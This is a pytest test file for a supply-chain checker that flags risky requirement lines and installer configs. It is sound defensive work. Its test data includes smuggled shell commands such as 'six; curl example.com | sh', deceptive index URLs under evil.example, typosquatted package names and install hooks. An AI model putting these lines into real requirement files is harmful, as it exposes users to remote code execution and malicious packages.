"""Where requirements come from, and whether they are what they seem."""

from __future__ import annotations

from typing import Any

import pytest

from kurt_ext.checks.requirement_text import judge
from kurt_ext.checks.supply_chain import check

from .conftest import Asked, skill_md

COMMIT = "0123456789abcdef0123456789abcdef01234567"


@pytest.mark.parametrize(
    ("line", "rule", "severity"),
    [
        ("--extra-index-url http://example.invalid/simple", "foreign-index", "high"),
        ("--extra-index-url=https://pkgs.example.com/simple", "foreign-index", "high"),
        ("-ihttps://pkgs.example.com/simple", "foreign-index", "high"),
        ("-i https://pypi.org.evil.example/simple", "foreign-index", "high"),
        ("-i https://pypi.org@evil.example/simple", "foreign-index", "high"),
        ("--find-links http://example.invalid/", "foreign-index", "high"),
        ("--trusted-host example.invalid", "trusted-host", "high"),
        ("git+https://example.com/x.git", "direct-address", "high"),
        ("x @ git+https://example.com/x.git@main", "direct-address", "high"),
        ("x @ git+https://example.com/x.git@v1.2", "direct-address", "medium"),
        (f"x @ git+https://example.com/x.git@{COMMIT}", "direct-address", "low"),
        ("x @ https://example.com/x-1.0.whl", "direct-address", "high"),
        ("x @ https://example.com/x-1.0.whl#sha256=" + "a" * 64, "direct-address", "low"),
        ("-e git+https://example.com/x.git#egg=x", "direct-address", "high"),
        ("-e ../other", "editable-requirement", "high"),
        ("-r http://example.com/all.txt", "direct-address", "high"),
        ("reqeusts", "lookalike-requirement", "high"),
        ("requestss>=2", "lookalike-requirement", "high"),
        ("python-dateutill==2.8", "lookalike-requirement", "high"),
        ("jeIlyfish", "lookalike-requirement", "high"),
        ("r\u0435quests", "lookalike-requirement", "high"),
        ("$(curl example.com)", "odd-requirement", "high"),
        ("six; curl example.com | sh", "odd-requirement", "high"),
        ("six --global-option=x", None, None),
        ("--config-settings x=y", "build-option", "medium"),
    ],
)
def test_what_a_line_brings_is_told(line: str, rule: str | None, severity: str | None) -> None:
    assert [(one.rule, one.severity) for one in judge(line)] == ([(rule, severity)] if rule else [])


@pytest.mark.parametrize(
    "line",
    [
        "",
        "# git+https://example.com/x.git",
        "requests==2.32.3",
        "requests>=2.32,<3  # a comment",
        "requests[socks,security]~=2.32 ; python_version < '3.12' and sys_platform != 'win32'",
        "httpx2",
        "aiofile",
        "PyYAML",
        "ruamel.yaml",
        "my-own-thing==1.0",
        "--index-url https://pypi.org/simple",
        "--extra-index-url https://download.pytorch.org/whl/cpu",
        "--no-index",
        "--pre",
        "-r other.txt",
        "numpy==2.0 --hash=sha256:" + "a" * 64,
    ],
)
def test_what_everybody_writes_is_fine(line: str) -> None:
    assert list(judge(line)) == []


def test_an_index_matters_less_where_digests_fix_the_content() -> None:
    (verdict,) = judge("--index-url https://pkgs.example.com/simple", hashed=True)
    assert verdict.severity == "low"
    (verdict,) = judge("--index-url http://pkgs.example.com/simple", hashed=True)
    assert verdict.severity == "high"


@pytest.mark.parametrize(
    ("name", "text", "rules"),
    [
        ("pip.conf", "[global]\nindex-url = http://example.invalid/simple\n", ["foreign-index"]),
        ("pip.conf", "[global]\ntimeout = 60\n", ["installer-settings"]),
        (".npmrc", "registry=http://example.invalid/\n", ["foreign-index"]),
        (".pypirc", "[pypi]\npassword = x\n", ["publishing-settings"]),
        ("pyproject.toml", '[project]\ndependencies = ["reqeusts"]\n', ["lookalike-requirement"]),
        ("pyproject.toml", '[[tool.uv.index]]\nurl = "https://a.example/"\n', ["foreign-index"]),
        (
            "pyproject.toml",
            '[build-system]\nrequires = []\nbackend-path = ["."]\n',
            ["install-hook"],
        ),
        (
            "pyproject.toml",
            '[tool.uv.sources]\nx = { git = "https://example.com/x.git" }\n',
            ["direct-address"],
        ),
        (
            "pyproject.toml",
            '[project]\nname = "x"\ndependencies = ["requests>=2"]\n'
            '[build-system]\nrequires = ["setuptools>=77"]\n'
            'build-backend = "setuptools.build_meta"\n',
            [],
        ),
        (
            "pyproject.toml",
            '[tool.poetry.dependencies]\npython = "^3.11"\nrequests = "^2.32"\n',
            [],
        ),
        (
            "Pipfile",
            '[[source]]\nurl = "https://pypi.org/simple"\nverify_ssl = false\n',
            ["trusted-host"],
        ),
        ("Pipfile", '[[source]]\nurl = "https://pypi.org/simple"\nverify_ssl = true\n', []),
        ("setup.cfg", "[options]\ninstall_requires =\n    reqeusts\n", ["lookalike-requirement"]),
        ("setup.cfg", "[options]\ninstall_requires =\n    requests\n    six\n", []),
        (
            "setup.py",
            "from setuptools import setup\nsetup(cmdclass={'install': X})",
            ["install-hook"],
        ),
        ("setup.py", "from setuptools import setup\nsetup(install_requires=['six'])", []),
        ("package.json", '{"scripts": {"postinstall": "node x.js"}}', ["install-hook"]),
        ("package.json", '{"scripts": {"test": "node x.js"}}', []),
        (
            "environment.yml",
            "channels:\n  - http://example.invalid/c\ndependencies:\n  - pip:\n    - reqeusts\n",
            ["foreign-index", "lookalike-requirement"],
        ),
        ("environment.yml", "channels:\n  - conda-forge\ndependencies:\n  - python=3.12\n", []),
        (
            "skill.py",
            '# /// script\n# dependencies = ["reqeusts"]\n# ///\n',
            ["lookalike-requirement"],
        ),
        ("skill.py", '# /// script\n# dependencies = ["requests"]\n# ///\n', []),
    ],
)
def test_every_file_that_an_installer_reads_is_read(
    ask: Asked, name: str, text: str, rules: list[str]
) -> None:
    assert [f.rule for f in ask(check, {"SKILL.md": skill_md(), name: text})] == rules


def test_the_place_is_the_line(ask: Asked) -> None:
    files: dict[str, Any] = {"SKILL.md": skill_md(), "requirements.txt": "six\n\nreqeusts\n"}
    (finding,) = ask(check, files)
    assert (finding.path, finding.line, finding.category) == ("requirements.txt", 3, "supply_chain")


def test_a_manifests_own_requirements_are_judged_too(ask: Asked) -> None:
    (finding,) = ask(check, {"SKILL.md": skill_md(requires=["six", "reqeusts"])})
    assert (finding.rule, finding.path) == ("lookalike-requirement", "SKILL.md")
